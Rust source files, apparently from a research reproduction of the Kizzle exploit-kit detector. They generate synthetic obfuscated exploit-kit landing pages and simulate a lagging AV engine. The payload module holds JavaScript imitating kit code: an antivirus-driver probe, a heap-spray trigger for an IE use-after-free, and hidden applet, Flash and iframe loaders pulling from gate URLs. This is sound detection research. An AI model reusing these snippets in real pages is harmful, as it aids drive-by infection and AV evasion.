    fn sweet_orange_revision_switches_integer_obfuscation() {
        let before = pack(&state(KitFamily::SweetOrange, 8, 9), PAYLOAD, &mut rng(9));
        let after = pack(&state(KitFamily::SweetOrange, 8, 11), PAYLOAD, &mut rng(9));
        assert!(before.contains("Math.sqrt(0)"));
        assert!(!before.contains("Math.exp(1)"));
        assert!(after.contains("Math.exp(1)"));
    }

    #[test]
    fn packed_samples_of_same_state_share_token_structure() {
        // The packed text differs (random identifiers) but the sequence of
        // quotes/braces/keywords — approximated here by stripping
        // identifiers — stays the same. The real token-level check lives in
        // the workspace integration tests with kizzle-js.
        let s = state(KitFamily::Rig, 8, 5);
        let a = pack(&s, PAYLOAD, &mut rng(100));
        let b = pack(&s, PAYLOAD, &mut rng(200));
        let shape = |text: &str| -> String {
            text.chars()
                .filter(|c| "\"(){}[];=+<".contains(*c))
                .collect()
        };
        // Chunk boundaries are randomized, so allow small differences in the
        // number of collect() calls but require the same structural alphabet.
        let sa = shape(&a);
        let sb = shape(&b);
        let diff = (sa.len() as i64 - sb.len() as i64).abs();
        assert!(diff < sa.len() as i64 / 5, "structures diverge too much");
    }

    #[test]
    fn delimiter_never_collides_with_digit_encoding() {
        // RIG/Sweet Orange delimiters in every scheduled state must start
        // with a non-digit so that splitting the char-code stream is
        // unambiguous.
        for family in [KitFamily::Rig, KitFamily::SweetOrange] {
            for date in SimDate::evolution_start().range_inclusive(SimDate::evaluation_end()) {
                let s = KitState::on_date(family, date);
                let first = s.delimiter.chars().next().expect("non-empty delimiter");
                assert!(
                    !first.is_ascii_digit(),
                    "{family} {date}: delimiter {}",
                    s.delimiter
                );
            }
        }
    }
}
