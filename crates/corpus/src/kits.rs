//! Kit models: payload + packer + evolution, emitting full landing pages.

use crate::date::SimDate;
use crate::evolution::KitState;
use crate::family::KitFamily;
use crate::ident::{random_alnum, random_url};
use crate::packer::pack;
use crate::payload::{build_payload, ANGLER_JAVA_MARKER};
use rand::Rng;
use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;

/// A complete model of one exploit-kit family.
///
/// A `KitModel` knows how to produce, for any date in the simulation window,
/// both the packed landing page an infected site would serve
/// ([`KitModel::generate_sample`]) and the unpacked payload a security
/// analyst would extract from it ([`KitModel::reference_payload`], used to
/// seed Kizzle's labeled corpus of known kits).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct KitModel {
    family: KitFamily,
}

impl KitModel {
    /// Create the model for a family.
    #[must_use]
    pub fn new(family: KitFamily) -> Self {
        KitModel { family }
    }

    /// The family this model describes.
    #[must_use]
    pub fn family(&self) -> KitFamily {
        self.family
    }

    /// The kit's configuration on `date`.
    #[must_use]
    pub fn state_on(&self, date: SimDate) -> KitState {
        KitState::on_date(self.family, date)
    }

    /// The embedded gate URLs for a given day. RIG rotates several per day
    /// (driving the churn of paper Fig. 11(d)); the other kits use one URL
    /// that rotates daily.
    fn urls_for_day<R: Rng + ?Sized>(&self, rng: &mut R) -> Vec<String> {
        let count = if self.family == KitFamily::Rig { 4 } else { 1 };
        (0..count).map(|_| random_url(rng)).collect()
    }

    /// The canonical unpacked payload observed on `date`, with the day's
    /// gate URLs. This is what lands in the labeled "known unpacked
    /// malware" corpus that Kizzle compares cluster prototypes against.
    #[must_use]
    pub fn reference_payload(&self, date: SimDate) -> String {
        let state = self.state_on(date);
        let mut rng = self.day_rng(date, 0);
        let urls = self.urls_for_day(&mut rng);
        build_payload(&state, &urls)
    }

    /// A per-(family, date, stream) deterministic RNG, so that the day's URL
    /// rotation is stable regardless of how many samples are drawn.
    fn day_rng(&self, date: SimDate, stream: u64) -> ChaCha8Rng {
        let seed = (u64::from(date.year) << 32)
            ^ (u64::from(date.ordinal()) << 16)
            ^ ((self.family as u64) << 8)
            ^ stream;
        ChaCha8Rng::seed_from_u64(seed)
    }

    /// Generate one packed landing page (a full HTML document) as served on
    /// `date`. Identifier randomization is drawn from `rng`, so every call
    /// produces a distinct variant of the same underlying kit version.
    #[must_use]
    pub fn generate_sample<R: Rng + ?Sized>(&self, date: SimDate, rng: &mut R) -> String {
        let state = self.state_on(date);
        // The day's URLs are shared by every sample of that day (a kit
        // campaign rotates its gates daily, not per visitor).
        let mut day_rng = self.day_rng(date, 0);
        let urls = self.urls_for_day(&mut day_rng);
        let payload = build_payload(&state, &urls);
        let packed = pack(&state, &payload, rng);

        let title_len = rng.gen_range(6..14);
        let title = random_alnum(rng, title_len);
        let marker_html = if state.family == KitFamily::Angler && state.java_marker_exposed {
            format!(
                "<applet archive=\"{}\" code=\"{ANGLER_JAVA_MARKER}\" width=\"1\" height=\"1\"></applet>\n",
                urls[0]
            )
        } else {
            String::new()
        };
        format!(
            "<html>\n<head><title>{title}</title><meta charset=\"utf-8\"></head>\n<body>\n\
             <div id=\"content\">Loading...</div>\n{marker_html}\
             <script type=\"text/javascript\">\n{packed}\n</script>\n\
             </body>\n</html>\n"
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rng(seed: u64) -> ChaCha8Rng {
        ChaCha8Rng::seed_from_u64(seed)
    }

    #[test]
    fn reference_payload_is_stable_within_a_day() {
        let model = KitModel::new(KitFamily::Nuclear);
        let d = SimDate::new(2014, 8, 10);
        assert_eq!(model.reference_payload(d), model.reference_payload(d));
    }

    #[test]
    fn nuclear_reference_payload_is_stable_across_days() {
        // Nuclear's payload embeds a single daily URL but its code body is
        // constant between evolution events, so consecutive days differ only
        // in that URL (Fig. 11(a): similarity within a few percent of 100%).
        let model = KitModel::new(KitFamily::Nuclear);
        let a = model.reference_payload(SimDate::new(2014, 8, 20));
        let b = model.reference_payload(SimDate::new(2014, 8, 21));
        assert_ne!(a, b, "the daily URL must rotate");
        // The shared portion dominates: strip the URL lines and compare.
        let strip = |s: &str| -> String {
            s.lines()
                .filter(|l| !l.contains("gateUrls"))
                .collect::<Vec<_>>()
                .join("\n")
        };
        assert_eq!(strip(&a), strip(&b));
    }

    #[test]
    fn rig_reference_payload_churns_daily() {
        let model = KitModel::new(KitFamily::Rig);
        let a = model.reference_payload(SimDate::new(2014, 8, 20));
        let b = model.reference_payload(SimDate::new(2014, 8, 21));
        // Four rotating URLs out of a short payload: significant churn.
        assert_ne!(a, b);
    }

    #[test]
    fn samples_from_the_same_day_differ_superficially() {
        let model = KitModel::new(KitFamily::Angler);
        let d = SimDate::new(2014, 8, 5);
        let a = model.generate_sample(d, &mut rng(1));
        let b = model.generate_sample(d, &mut rng(2));
        assert_ne!(a, b, "identifier randomization must differ");
        assert_eq!(
            a.matches("<script").count(),
            b.matches("<script").count(),
            "same structure"
        );
    }

    #[test]
    fn angler_marker_is_in_plain_html_only_before_august_13() {
        let model = KitModel::new(KitFamily::Angler);
        let before = model.generate_sample(SimDate::new(2014, 8, 12), &mut rng(3));
        let after = model.generate_sample(SimDate::new(2014, 8, 13), &mut rng(3));
        assert!(before.contains(&format!("code=\"{ANGLER_JAVA_MARKER}\"")));
        assert!(!after.contains(&format!("code=\"{ANGLER_JAVA_MARKER}\"")));
        // In both cases the marker itself never appears unobfuscated inside
        // the packed script body.
        let script_of = |html: &str| {
            let start = html.find("<script type").unwrap();
            html[start..].to_string()
        };
        assert!(!script_of(&after).contains(ANGLER_JAVA_MARKER));
    }

    #[test]
    fn generated_samples_are_full_html_documents() {
        for family in KitFamily::ALL {
            let html = KitModel::new(family).generate_sample(SimDate::new(2014, 8, 8), &mut rng(9));
            assert!(html.starts_with("<html>"), "{family}");
            assert!(html.contains("</html>"), "{family}");
            assert!(
                html.contains("<script type=\"text/javascript\">"),
                "{family}"
            );
        }
    }

    #[test]
    fn family_accessor() {
        assert_eq!(KitModel::new(KitFamily::Rig).family(), KitFamily::Rig);
    }
}
