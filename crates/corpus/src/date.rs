//! A minimal calendar date for the 2014 simulation window.
//!
//! The paper's measurements span June–August 2014 (kit evolution, Fig. 5)
//! and August 2014 (the month-long evaluation). A full calendar library is
//! unnecessary; this type covers exactly what the experiments need:
//! ordering, day arithmetic within a year, ranges and `8/13/14`-style
//! formatting.

use serde::{Deserialize, Serialize};
use std::fmt;

/// Days in each month of 2014 (not a leap year).
const DAYS_IN_MONTH: [u32; 12] = [31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31];

/// A calendar date within the simulation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct SimDate {
    /// Four-digit year.
    pub year: u32,
    /// Month, 1–12.
    pub month: u32,
    /// Day of month, 1-based.
    pub day: u32,
}

impl SimDate {
    /// Create a date.
    ///
    /// # Panics
    ///
    /// Panics if the month or day is out of range (2014 calendar; leap years
    /// outside scope of the simulation are not supported).
    #[must_use]
    pub fn new(year: u32, month: u32, day: u32) -> Self {
        assert!((1..=12).contains(&month), "month out of range: {month}");
        assert!(
            day >= 1 && day <= DAYS_IN_MONTH[(month - 1) as usize],
            "day out of range: {month}/{day}"
        );
        SimDate { year, month, day }
    }

    /// Days in `month` of the simulated calendar (2014, no leap years) —
    /// what a fallible decoder must check before calling [`SimDate::new`].
    ///
    /// # Panics
    ///
    /// Panics if the month is out of range.
    #[must_use]
    pub const fn days_in_month(month: u32) -> u32 {
        DAYS_IN_MONTH[(month - 1) as usize]
    }

    /// The first day of the paper's evaluation window (August 1, 2014).
    #[must_use]
    pub fn evaluation_start() -> Self {
        SimDate::new(2014, 8, 1)
    }

    /// The last day of the paper's evaluation window (August 31, 2014).
    #[must_use]
    pub fn evaluation_end() -> Self {
        SimDate::new(2014, 8, 31)
    }

    /// The first day of the kit-evolution study (June 1, 2014, Fig. 5).
    #[must_use]
    pub fn evolution_start() -> Self {
        SimDate::new(2014, 6, 1)
    }

    /// Day-of-year ordinal (Jan 1 = 1).
    #[must_use]
    pub fn ordinal(&self) -> u32 {
        let days: u32 = DAYS_IN_MONTH[..(self.month - 1) as usize].iter().sum();
        days + self.day
    }

    /// Absolute day number used for arithmetic across years.
    #[must_use]
    pub fn absolute_day(&self) -> i64 {
        i64::from(self.year) * 365 + i64::from(self.ordinal())
    }

    /// Number of days from `other` to `self` (positive if `self` is later).
    #[must_use]
    pub fn days_since(&self, other: SimDate) -> i64 {
        self.absolute_day() - other.absolute_day()
    }

    /// The next calendar day.
    ///
    /// # Panics
    ///
    /// Panics if the date would leave the supported window (December 31).
    #[must_use]
    pub fn next(&self) -> Self {
        if self.day < DAYS_IN_MONTH[(self.month - 1) as usize] {
            SimDate::new(self.year, self.month, self.day + 1)
        } else {
            assert!(self.month < 12, "simulation window does not cross years");
            SimDate::new(self.year, self.month + 1, 1)
        }
    }

    /// All dates from `self` to `end`, inclusive.
    ///
    /// Returns an empty vector if `end` is before `self`.
    #[must_use]
    pub fn range_inclusive(&self, end: SimDate) -> Vec<SimDate> {
        let mut out = Vec::new();
        let mut current = *self;
        while current <= end {
            out.push(current);
            if current == end {
                break;
            }
            current = current.next();
        }
        out
    }

    /// Format as the paper's axis labels, e.g. `13-Aug`.
    #[must_use]
    pub fn axis_label(&self) -> String {
        const MONTHS: [&str; 12] = [
            "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
        ];
        format!("{}-{}", self.day, MONTHS[(self.month - 1) as usize])
    }
}

impl fmt::Display for SimDate {
    /// `8/13/14`, the formatting used throughout the paper's figures.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}/{}/{}", self.month, self.day, self.year % 100)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordering_follows_calendar() {
        assert!(SimDate::new(2014, 6, 30) < SimDate::new(2014, 7, 1));
        assert!(SimDate::new(2014, 8, 13) > SimDate::new(2014, 8, 12));
        assert_eq!(SimDate::new(2014, 8, 13), SimDate::new(2014, 8, 13));
    }

    #[test]
    fn next_handles_month_boundaries() {
        assert_eq!(SimDate::new(2014, 6, 30).next(), SimDate::new(2014, 7, 1));
        assert_eq!(SimDate::new(2014, 8, 31).next(), SimDate::new(2014, 9, 1));
        assert_eq!(SimDate::new(2014, 2, 28).next(), SimDate::new(2014, 3, 1));
    }

    #[test]
    fn august_has_31_days() {
        let days = SimDate::evaluation_start().range_inclusive(SimDate::evaluation_end());
        assert_eq!(days.len(), 31);
        assert_eq!(days[12], SimDate::new(2014, 8, 13));
    }

    #[test]
    fn evolution_window_is_three_months() {
        let days = SimDate::evolution_start().range_inclusive(SimDate::evaluation_end());
        assert_eq!(days.len(), 30 + 31 + 31);
    }

    #[test]
    fn days_since_is_signed() {
        let a = SimDate::new(2014, 8, 1);
        let b = SimDate::new(2014, 8, 13);
        assert_eq!(b.days_since(a), 12);
        assert_eq!(a.days_since(b), -12);
        assert_eq!(
            SimDate::new(2014, 7, 1).days_since(SimDate::new(2014, 6, 1)),
            30
        );
    }

    #[test]
    fn empty_range_when_end_before_start() {
        let r = SimDate::new(2014, 8, 10).range_inclusive(SimDate::new(2014, 8, 1));
        assert!(r.is_empty());
    }

    #[test]
    fn display_and_axis_label() {
        let d = SimDate::new(2014, 8, 13);
        assert_eq!(d.to_string(), "8/13/14");
        assert_eq!(d.axis_label(), "13-Aug");
    }

    #[test]
    #[should_panic(expected = "day out of range")]
    fn invalid_day_panics() {
        let _ = SimDate::new(2014, 2, 30);
    }

    #[test]
    #[should_panic(expected = "month out of range")]
    fn invalid_month_panics() {
        let _ = SimDate::new(2014, 13, 1);
    }
}
