//! The inner, unpacked payload of an exploit kit.
//!
//! The payload is the slowly-changing core of the "onion" (paper §II-A):
//! plug-in and AV detection, one exploit block per CVE, and an eval trigger.
//! Packers wrap this payload in a fast-changing obfuscation layer; Kizzle's
//! labeling stage works on the *unpacked* payload because it barely changes
//! between variants (Fig. 11).
//!
//! Three properties of real kits are reproduced deliberately:
//!
//! * **Cross-kit code reuse** — the AV-presence check
//!   ([`AV_CHECK_SNIPPET`]) and the CVE-2013-2551 Internet Explorer exploit
//!   ([`IE_EXPLOIT_SNIPPET`]) are byte-identical across every family that
//!   carries them, modeling the borrowing the paper documents (RIG's AV
//!   check appearing in Nuclear in August).
//! * **Benign lookalikes** — kits embed a large plug-in-probing library
//!   ([`PLUGIN_DETECT_LIB`]) lifted from the legitimate `PluginDetect`
//!   ecosystem; benign pages embed the same library, which is exactly the
//!   false positive of the paper's Fig. 15.
//! * **Kit-specific churn** — RIG embeds its (daily-rotating) landing URLs
//!   directly in the payload body, which is why its unpacked similarity is
//!   so much noisier than the other kits in Fig. 11(d).

use crate::evolution::KitState;
use crate::family::{Component, Cve, KitFamily};

/// The AV-presence check shared verbatim between kits (paper §II: "three of
/// the exploit kits used the exact same code to check for certain system
/// files belonging to AV solutions").
pub const AV_CHECK_SNIPPET: &str = r#"
function checkSecuritySoftware() {
  var avMarkers = ["c:\\windows\\system32\\drivers\\kl1.sys",
                   "c:\\windows\\system32\\drivers\\tmactmon.sys",
                   "c:\\windows\\system32\\drivers\\avgidsha.sys",
                   "c:\\windows\\system32\\drivers\\bdfwfpf.sys"];
  for (var ai = 0; ai < avMarkers.length; ai++) {
    try {
      var xm = new ActiveXObject("Microsoft.XMLDOM");
      xm.async = false;
      if (xm.loadXML("<r res='" + avMarkers[ai] + "'></r>")) {
        if (xm.parseError.errorCode != 0) { continue; }
        return true;
      }
    } catch (averr) { }
  }
  return false;
}
"#;

/// The CVE-2013-2551 Internet Explorer exploit block shared by all four
/// kits (Fig. 2 shows every kit carrying this CVE; the paper notes kits
/// borrow exploits from each other quickly).
pub const IE_EXPLOIT_SNIPPET: &str = r#"
function triggerVmlUseAfterFree() {
  var heapBlocks = new Array();
  var fill = unescape("%u0c0c%u0c0c");
  while (fill.length < 0x1000) { fill += fill; }
  for (var hb = 0; hb < 512; hb++) {
    heapBlocks[hb] = fill.substring(0, 0x800 - 6) + "" + hb;
  }
  var vml = document.createElement("vml:rect");
  vml.style.behavior = "url(#default#VML)";
  try { vml.fillcolor.value = heapBlocks[256]; } catch (uaf) { }
  return heapBlocks.length;
}
"#;

/// A condensed `PluginDetect`-style probing library. Kits embed it to decide
/// which exploit to deliver; benign pages embed it to decide which video
/// player to load. Its presence on both sides is the source of the paper's
/// representative false positive (Fig. 15, 79% overlap with Nuclear).
pub const PLUGIN_DETECT_LIB: &str = r#"
var PluginProbe = {
  rgx: { any: /function|object/, num: /number/, arr: /Array/, str: /String/ },
  hasOwn: function(obj, prop) { return Object.prototype.hasOwnProperty.call(obj, prop); },
  toString: ({}).constructor.prototype.toString,
  isPlainObject: function(c) {
    var a = this, b;
    if (!c || a.rgx.any.test(a.toString.call(c)) || c.window == c ||
        a.rgx.num.test(a.toString.call(c.nodeType))) { return 0; }
    try {
      if (!a.hasOwn(c, "constructor") &&
          !a.hasOwn(c.constructor.prototype, "isPrototypeOf")) { return 0; }
    } catch (b) { return 0; }
    return 1;
  },
  isDefined: function(b) { return typeof b != "undefined"; },
  isArray: function(b) { return this.rgx.arr.test(this.toString.call(b)); },
  isString: function(b) { return this.rgx.str.test(this.toString.call(b)); },
  isNum: function(b) { return this.rgx.num.test(this.toString.call(b)); },
  getVersion: function(name) {
    var plugins = navigator.plugins, mimes = navigator.mimeTypes, found = "";
    for (var pi = 0; pi < plugins.length; pi++) {
      if (plugins[pi].name.indexOf(name) >= 0) { found = plugins[pi].description; }
    }
    if (!found && window.ActiveXObject) {
      try { found = new ActiveXObject(name + ".1").GetVariable("$version"); } catch (e) { }
    }
    return found;
  }
};
"#;

/// The miniature plug-in probe RIG ships instead of the full library: RIG's
/// unpacked body is short, which is why its daily campaign data dominates
/// its day-over-day similarity (paper Fig. 11(d)).
pub const RIG_MINI_PROBE: &str = r#"
var PluginProbe = {
  getVersion: function(name) {
    var plugins = navigator.plugins, found = "";
    for (var pi = 0; pi < plugins.length; pi++) {
      if (plugins[pi].name.indexOf(name) >= 0) { found = plugins[pi].description; }
    }
    return found;
  }
};
"#;

/// The concrete string Angler's Java exploit is keyed on: before August 13
/// it appeared in plain HTML (and commercial AV matched on it); afterwards
/// it only exists inside the packed body (paper Example 1 / Fig. 6).
pub const ANGLER_JAVA_MARKER: &str = "jnlp_embedded_applet_cve_2013_0422_dropper";

/// Build the unpacked payload JavaScript for a kit in a given state.
///
/// `urls` are the landing/redirect URLs embedded into the payload; RIG
/// embeds several (they rotate daily), the other kits one.
#[must_use]
pub fn build_payload(state: &KitState, urls: &[String]) -> String {
    let mut out = String::with_capacity(8 * 1024);
    out.push_str(&format!(
        "// {} gate r{}\n",
        state.family.short_code().to_ascii_lowercase(),
        state.packer_revision
    ));
    if state.family == KitFamily::Rig {
        out.push_str(RIG_MINI_PROBE);
    } else {
        out.push_str(PLUGIN_DETECT_LIB);
    }

    // Embedded URLs: RIG's payload is short and URL-heavy, which is what
    // makes its unpacked similarity churn in Fig. 11(d).
    let url_count = if state.family == KitFamily::Rig {
        urls.len()
    } else {
        urls.len().min(1)
    };
    out.push_str("var gateUrls = [");
    for url in urls.iter().take(url_count.max(1)) {
        out.push_str(&format!("\"{url}\", "));
    }
    out.push_str("];\n");

    if state.family == KitFamily::Rig {
        // RIG embeds a rotating campaign-configuration blob alongside its
        // gate URLs; because the rest of the body is short, this daily
        // churn is what drags its unpacked self-similarity down to the
        // ~50% range of the paper's Fig. 11(d).
        let mut blob = String::new();
        let mut round = 0usize;
        while blob.len() < 2200 {
            for url in urls {
                blob.push_str(&format!("{round}|{url}|"));
            }
            round += 1;
        }
        out.push_str(&format!("var campaignConfig = \"{blob}\";\n"));
    }

    if state.av_check {
        out.push_str(AV_CHECK_SNIPPET);
    }

    for cve in &state.cves {
        out.push_str(&exploit_block(state.family, cve));
    }

    out.push_str(&dispatcher(state));
    out
}

/// The exploit block for one CVE. The IE exploit is shared verbatim across
/// families; the rest are family-flavored but stable over time.
#[must_use]
pub fn exploit_block(family: KitFamily, cve: &Cve) -> String {
    if cve.id == "CVE-2013-2551" {
        return format!(
            "{}\nfunction run_{}() {{ return triggerVmlUseAfterFree(); }}\n",
            IE_EXPLOIT_SNIPPET,
            cve.slug()
        );
    }
    let probe = match cve.component {
        Component::Flash => "PluginProbe.getVersion(\"Shockwave Flash\")",
        Component::Silverlight => "PluginProbe.getVersion(\"Silverlight\")",
        Component::Java => "PluginProbe.getVersion(\"Java\")",
        Component::AdobeReader => "PluginProbe.getVersion(\"Adobe Acrobat\")",
        Component::InternetExplorer => "navigator.userAgent",
    };
    let family_tag = family.short_code().to_ascii_lowercase();
    let marker = if family == KitFamily::Angler && cve.component == Component::Java {
        format!("  var marker = \"{ANGLER_JAVA_MARKER}\";\n")
    } else {
        String::new()
    };
    let loader = match cve.component {
        Component::Flash => {
            "  var obj = document.createElement(\"object\");\n  obj.setAttribute(\"type\", \"application/x-shockwave-flash\");\n  obj.setAttribute(\"data\", gateUrls[0] + \"&sw=1\");\n  document.body.appendChild(obj);\n"
        }
        Component::Silverlight => {
            "  var obj = document.createElement(\"object\");\n  obj.setAttribute(\"type\", \"application/x-silverlight-2\");\n  obj.setAttribute(\"data\", gateUrls[0] + \"&sl=1\");\n  document.body.appendChild(obj);\n"
        }
        Component::Java => {
            "  var app = document.createElement(\"applet\");\n  app.setAttribute(\"archive\", gateUrls[0] + \"&jar=1\");\n  app.setAttribute(\"code\", marker || \"loader.class\");\n  document.body.appendChild(app);\n"
        }
        Component::AdobeReader => {
            "  var ifr = document.createElement(\"iframe\");\n  ifr.setAttribute(\"src\", gateUrls[0] + \"&pdf=1\");\n  ifr.setAttribute(\"width\", \"1\");\n  ifr.setAttribute(\"height\", \"1\");\n  document.body.appendChild(ifr);\n"
        }
        Component::InternetExplorer => "  triggerVmlUseAfterFree();\n",
    };
    format!(
        "function run_{tag}_{slug}() {{\n  var ver = {probe};\n{marker}  if (!ver) {{ return false; }}\n{loader}  return true;\n}}\n",
        tag = family_tag,
        slug = cve.slug(),
        probe = probe,
        marker = marker,
        loader = loader,
    )
}

/// The dispatcher + eval trigger that runs the exploit chain.
fn dispatcher(state: &KitState) -> String {
    let mut out = String::new();
    let family_tag = state.family.short_code().to_ascii_lowercase();
    out.push_str(&format!("function launch_{family_tag}() {{\n"));
    if state.av_check {
        out.push_str("  if (checkSecuritySoftware()) { return; }\n");
    }
    for cve in &state.cves {
        let name = if cve.id == "CVE-2013-2551" {
            format!("run_{}", cve.slug())
        } else {
            format!("run_{family_tag}_{}", cve.slug())
        };
        out.push_str(&format!("  try {{ {name}(); }} catch (ex) {{ }}\n"));
    }
    out.push_str("}\n");
    out.push_str(&format!(
        "window.setTimeout(function() {{ launch_{family_tag}(); }}, 100);\n"
    ));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::date::SimDate;
    use crate::evolution::KitState;

    fn urls() -> Vec<String> {
        vec![
            "http://gate.example/a.php?id=1".to_string(),
            "http://gate.example/b.php?id=2".to_string(),
        ]
    }

    #[test]
    fn payload_contains_one_block_per_cve() {
        let state = KitState::on_date(KitFamily::Angler, SimDate::new(2014, 8, 1));
        let js = build_payload(&state, &urls());
        for cve in &state.cves {
            assert!(js.contains(&cve.slug()), "missing {}", cve.id);
        }
    }

    #[test]
    fn av_check_only_when_state_says_so() {
        let nuclear_before = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 7, 1));
        let nuclear_after = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 1));
        assert!(!build_payload(&nuclear_before, &urls()).contains("checkSecuritySoftware"));
        assert!(build_payload(&nuclear_after, &urls()).contains("checkSecuritySoftware"));
    }

    #[test]
    fn borrowed_av_check_is_byte_identical_across_kits() {
        let rig = KitState::on_date(KitFamily::Rig, SimDate::new(2014, 8, 20));
        let nuclear = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 20));
        let rig_js = build_payload(&rig, &urls());
        let nuclear_js = build_payload(&nuclear, &urls());
        assert!(rig_js.contains(AV_CHECK_SNIPPET));
        assert!(nuclear_js.contains(AV_CHECK_SNIPPET));
    }

    #[test]
    fn ie_exploit_is_shared_verbatim_by_all_kits() {
        for family in KitFamily::ALL {
            let state = KitState::on_date(family, SimDate::new(2014, 8, 15));
            let js = build_payload(&state, &urls());
            assert!(js.contains("triggerVmlUseAfterFree"), "{family}");
        }
    }

    #[test]
    fn plugin_detect_lib_is_embedded_in_every_kit_except_rig() {
        for family in KitFamily::ALL {
            let state = KitState::on_date(family, SimDate::new(2014, 8, 15));
            let js = build_payload(&state, &urls());
            if family == KitFamily::Rig {
                assert!(!js.contains("isPlainObject"), "{family}");
                assert!(js.contains("campaignConfig"), "{family}");
            } else {
                assert!(js.contains("isPlainObject"), "{family}");
                assert!(!js.contains("campaignConfig"), "{family}");
            }
            // Every payload still exposes the PluginProbe interface its
            // exploit blocks call into.
            assert!(js.contains("PluginProbe"), "{family}");
        }
    }

    #[test]
    fn angler_payload_carries_the_java_marker() {
        let state = KitState::on_date(KitFamily::Angler, SimDate::new(2014, 8, 20));
        let js = build_payload(&state, &urls());
        assert!(js.contains(ANGLER_JAVA_MARKER));
        // Other kits never carry Angler's marker.
        let rig = KitState::on_date(KitFamily::Rig, SimDate::new(2014, 8, 20));
        assert!(!build_payload(&rig, &urls()).contains(ANGLER_JAVA_MARKER));
    }

    #[test]
    fn rig_embeds_all_urls_others_only_one() {
        let rig = KitState::on_date(KitFamily::Rig, SimDate::new(2014, 8, 5));
        let js = build_payload(&rig, &urls());
        assert!(js.contains("a.php?id=1") && js.contains("b.php?id=2"));
        let angler = KitState::on_date(KitFamily::Angler, SimDate::new(2014, 8, 5));
        let js = build_payload(&angler, &urls());
        assert!(js.contains("a.php?id=1") && !js.contains("b.php?id=2"));
    }

    #[test]
    fn payload_is_append_only_over_time() {
        // The August 27 CVE append grows the payload without removing code.
        let before = build_payload(
            &KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 26)),
            &urls(),
        );
        let after = build_payload(
            &KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 27)),
            &urls(),
        );
        assert!(after.len() > before.len());
        assert!(after.contains("cve_2013_0074"));
        assert!(!before.contains("cve_2013_0074"));
    }

    #[test]
    fn payload_is_deterministic_for_fixed_inputs() {
        let state = KitState::on_date(KitFamily::SweetOrange, SimDate::new(2014, 8, 10));
        assert_eq!(
            build_payload(&state, &urls()),
            build_payload(&state, &urls())
        );
    }

    #[test]
    fn payload_lexes_cleanly() {
        let state = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 30));
        let js = build_payload(&state, &urls());
        let stream = kizzle_js_smoke(&js);
        assert!(stream > 300, "payload should be token-rich, got {stream}");
    }

    /// Tiny local tokenizer smoke check (kizzle-js is not a dependency of
    /// this crate; the real tokenization round-trip is covered by
    /// integration tests at the workspace level).
    fn kizzle_js_smoke(js: &str) -> usize {
        js.split_whitespace().count()
    }
}
