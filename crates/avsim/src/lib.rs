//! # kizzle-avsim — a baseline anti-virus engine with analyst reaction lag
//!
//! The paper compares Kizzle against a widely used commercial AV engine and
//! explains its false-negative windows with the adversarial cycle of Fig. 1:
//! the AV's hand-written signatures key on concrete artifacts of the current
//! packer (a delimiter, an exposed exploit string), the kit author rotates
//! that artifact, and the engine stays blind until an analyst writes and
//! ships a new signature days later. That comparator is proprietary, so
//! this crate models its *mechanism* directly:
//!
//! * per-family, hand-written [`AvSignature`]s whose required substrings are
//!   derived from the kit's packer state (the delimiter-spliced strings of
//!   Nuclear, the RIG delimiter declaration, Angler's exposed Java marker,
//!   Sweet Orange's arithmetic identities);
//! * an analyst **reaction delay**: on day *d* the engine runs the
//!   signatures an analyst would have written from the kit as it looked on
//!   day *d − delay* (the paper's Fig. 6 window is roughly six days);
//! * one deliberately greedy legacy signature modeling the small but
//!   nonzero false-positive rate of the commercial engine (Fig. 13(a)).
//!
//! The engine scans raw documents by substring match — exactly what byte
//! signatures do — so it needs no access to the Kizzle pipeline.
//!
//! ## Example
//!
//! ```
//! use kizzle_avsim::{AvConfig, AvEngine};
//! use kizzle_corpus::{KitFamily, KitModel, SimDate};
//! use rand::SeedableRng;
//!
//! let engine = AvEngine::new(AvConfig::default());
//! let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(3);
//! let date = SimDate::new(2014, 8, 5);
//! let page = KitModel::new(KitFamily::Rig).generate_sample(date, &mut rng);
//! assert_eq!(engine.scan(date, &page), Some(KitFamily::Rig));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use kizzle_corpus::packer::splice_delimiter;
use kizzle_corpus::payload::ANGLER_JAVA_MARKER;
use kizzle_corpus::{KitFamily, KitState, SimDate};
use serde::Serialize;
use std::fmt;

/// Configuration of the simulated AV engine.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct AvConfig {
    /// Days between a kit change appearing in the wild and the engine
    /// shipping a signature for it. The Angler window of the paper's Fig. 6
    /// spans roughly August 13–19, i.e. about six days.
    pub reaction_delay_days: i64,
    /// Include the over-broad legacy signature that produces the engine's
    /// (small) false-positive rate.
    pub greedy_legacy_signature: bool,
}

impl Default for AvConfig {
    fn default() -> Self {
        AvConfig {
            reaction_delay_days: 6,
            greedy_legacy_signature: true,
        }
    }
}

/// A hand-written AV signature: a family label plus substrings that must
/// all be present in the raw document.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AvSignature {
    /// Analyst-facing signature name (e.g. `NEK.sig3`).
    pub name: String,
    /// The family the signature detects.
    pub family: KitFamily,
    /// Substrings that must all occur in the document.
    pub required_substrings: Vec<String>,
}

impl AvSignature {
    /// Does the signature match a raw document?
    #[must_use]
    pub fn matches(&self, document: &str) -> bool {
        self.required_substrings
            .iter()
            .all(|needle| document.contains(needle.as_str()))
    }
}

impl fmt::Display for AvSignature {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
